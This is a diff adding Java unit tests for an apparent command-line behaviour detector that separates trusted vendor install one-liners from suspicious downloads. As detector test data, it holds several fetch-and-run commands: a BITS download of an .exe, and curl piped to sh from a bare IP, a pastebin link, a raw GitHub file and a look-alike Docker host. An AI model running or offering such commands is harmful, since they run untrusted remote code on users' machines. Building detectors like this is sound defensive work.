@@ -163,6 +163,31 @@ class BehavioursTest {
     }
 
     @Test
+    void aSettingsCmdletStoresAUrlAndAPortIsNoStream() {
+        // a cmdlet that writes settings keeps the URL it is given; BITS cmdlets transfer
+        assertThat(Behaviours.shows(Family.REMOTE_PAYLOAD,
+                "powershell -c \"Set-OwaVirtualDirectory -Identity 'EX1\\owa (Default Web Site)' -ExternalUrl https://mail.example.org/owa\"", true)).isFalse();
+        assertThat(Behaviours.shows(Family.REMOTE_PAYLOAD, "powershell -c \"Add-BitsFile -BitsJob $j -Source https://x.example/a.exe\"", true)).isTrue();
+        assertThat(Behaviours.shows(Family.ALTERNATE_STREAM,
+                "netsh winhttp set proxy proxy-server=\"http=proxy.example.local:3128;https=proxy.example.local:3128\"", true)).isFalse();
+    }
+
+    @Test
+    void vendorInstallersAreKnownByHostAndEveryUrlOfTheLine() {
+        assertThat(Behaviours.shows(Family.VENDOR_INSTALLER, "sh -c 'curl -fsSL https://get.docker.com | sh'", false)).isTrue();
+        assertThat(Behaviours.shows(Family.VENDOR_INSTALLER, "curl -fsSL https://deb.nodesource.com/setup_20.x | bash -", false)).isTrue();
+        assertThat(Behaviours.shows(Family.VENDOR_INSTALLER,
+                "powershell -c \"iex ((New-Object Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))\"", true)).isTrue();
+        // plain HTTP, a look-alike host, a second URL elsewhere, a whole code host: not a vendor's installer
+        assertThat(Behaviours.shows(Family.VENDOR_INSTALLER, "curl -fsSL http://get.docker.com | sh", false)).isFalse();
+        assertThat(Behaviours.shows(Family.VENDOR_INSTALLER, "curl -fsSL https://get.docker.com.example.net/ | sh", false)).isFalse();
+        assertThat(Behaviours.shows(Family.VENDOR_INSTALLER,
+                "curl -s https://sh.rustup.rs | sh; curl -s https://198.51.100.9/k | sh", false)).isFalse();
+        assertThat(Behaviours.shows(Family.VENDOR_INSTALLER, "curl -s https://raw.githubusercontent.com/someone/x/main/i.sh | sh", false)).isFalse();
+        assertThat(Behaviours.shows(Family.VENDOR_INSTALLER, "curl -s https://pastebin.com/raw/abc | sh", false)).isFalse();
+    }
+
+    @Test
     void aProgramStartedFromTheTaskFolderOrRightInProgramDataIsADropFolderProgram() {
         assertThat(Behaviours.shows(Family.USER_PATH_PAYLOAD, "cmd /c C:\\Windows\\Tasks\\x.bat", true)).isTrue();
         // the writable folders inside the Windows directory (AppLocker bypass lists)
